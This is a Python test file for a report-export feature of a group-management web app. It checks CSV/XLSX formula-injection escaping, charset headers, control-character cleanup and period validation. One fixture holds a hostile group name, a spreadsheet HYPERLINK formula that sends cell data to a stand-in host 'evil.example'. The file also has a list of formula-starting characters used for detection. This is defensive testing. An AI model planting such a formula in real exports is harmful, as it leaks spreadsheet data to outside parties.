"""Issue 12 #2, #3 (the writer), #7, #14, #16: report files and report periods."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from amal.accounts.models import Role
from amal.accounts.services import create_token
from amal.errors import DomainError
from amal.groups.services import create_group, enrol
from amal.reports.periods import parse_period
from amal.runtime import state
from amal.testing import finished_run

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Apri registro")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def quarter(today: date | None = None) -> str:
    today = today or date.today()
    return f"{today.year}-Q{(today.month - 1) // 3 + 1}"


@pytest.fixture
def hostile_group(app, ctx, person):  # type: ignore[no-untyped-def]
    """A Monza group with members this quarter, named like a spreadsheet formula."""
    group = create_group(ctx, "monza-brianza", HOSTILE_NAME)
    for _ in range(2):
        enrol(ctx, group.id, person("monza-brianza").id)
    return group


def download(client, login, fmt: str):  # type: ignore[no-untyped-def]
    login("coordinator", "monza-brianza")
    base = "/t/monza-brianza/reports/provincia-trimestrale"
    return client.get(f"{base}/download.{fmt}?period={quarter()}")


def cells_of_xlsx(data: bytes) -> list[object]:
    workbook = load_workbook(io.BytesIO(data))
    return [c.value for sheet in workbook for row in sheet.iter_rows() for c in row]


def test_no_formula_reaches_the_xlsx(client, login, hostile_group) -> None:
    response = download(client, login, "xlsx")
    assert response.status_code == 200
    values = [v for v in cells_of_xlsx(response.data) if isinstance(v, str)]
    assert "'" + HOSTILE_NAME in values  # kept readable, as text
    assert not [v for v in values if v.startswith(FORMULA_STARTS) and v != "-"]


def test_no_csv_cell_starts_a_formula(client, login, hostile_group) -> None:
    response = download(client, login, "csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    cells = [c for row in rows for c in row]
    assert "'" + HOSTILE_NAME in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and c != "-"]


def test_csv_has_one_charset(client, login, hostile_group) -> None:
    """#14: it was 'text/csv; charset=utf-8; charset=utf-8'."""
    response = download(client, login, "csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"


def test_old_data_with_control_characters_still_makes_an_xlsx(
    app, client, login, hostile_group
) -> None:
    """#3: one U+0007 in a group name broke the XLSX of the whole territory (500).
    Such names are refused now; rows written before are cleaned on output."""
    with state(app).engine.begin() as connection:
        connection.execute(
            text("UPDATE self_help_group SET name = :name WHERE id = :id"),
            {"name": "Gruppo\x07 Brianza", "id": hostile_group.id},
        )
    response = download(client, login, "xlsx")
    assert response.status_code == 200
    assert "Gruppo Brianza" in cells_of_xlsx(response.data)


@pytest.mark.parametrize(
    ("text_", "kind"),
    [
        ("0000-Q1", "quarter"),
        ("9999-Q4", "quarter"),
        ("9999-S2", "semester"),
        ("2026-01-01..9999-12-31", "custom"),
        ("0001-01-01..0001-01-02", "custom"),
    ],
)
def test_extreme_periods_are_a_clear_error(text_: str, kind: str) -> None:
    with pytest.raises(DomainError) as error:
        parse_period(text_, kind)
    assert error.value.code == "invalid_period"
    assert "2000-2099" in error.value.message


def test_extreme_periods_in_web_and_api(app, client, login, ctx) -> None:
    """#7: these answered 500."""
    _, secret = create_token(ctx, "r", "monza-brianza", Role.COORDINATOR)
    runs = "/api/v1/territories/monza-brianza/reports/provincia-trimestrale/runs"
    headers = {"Authorization": f"Bearer {secret}"}
    run = finished_run(
        app, client, client.post(runs, json={"period": "9999-Q4"}, headers=headers), headers
    )
    assert run["status"] == "failed"
    assert "2000-2099" in run["error"]
    login("coordinator", "monza-brianza")
    page = client.get("/t/monza-brianza/reports/provincia-trimestrale?period=0000-Q1")
    assert page.status_code == 200 and "Scrivi il periodo come" in page.get_data(as_text=True)
    file = client.get("/t/monza-brianza/reports/provincia-trimestrale/download.xlsx?period=0000-Q1")
    assert file.status_code == 400


def test_an_unknown_report_is_not_found(client, login, ctx) -> None:
    """#16: the API answered 409."""
    _, secret = create_token(ctx, "r", "monza-brianza", Role.COORDINATOR)
    response = client.post(
        "/api/v1/territories/monza-brianza/reports/no-such-report/runs",
        json={"period": "2026-Q1"},
        headers={"Authorization": f"Bearer {secret}"},
    )
    assert response.status_code == 404
    assert response.headers["Content-Type"] == "application/problem+json"
    login("coordinator", "monza-brianza")
    web = client.get("/t/monza-brianza/reports/no-such-report/download.csv?period=2026-Q1")
    assert web.status_code == 404
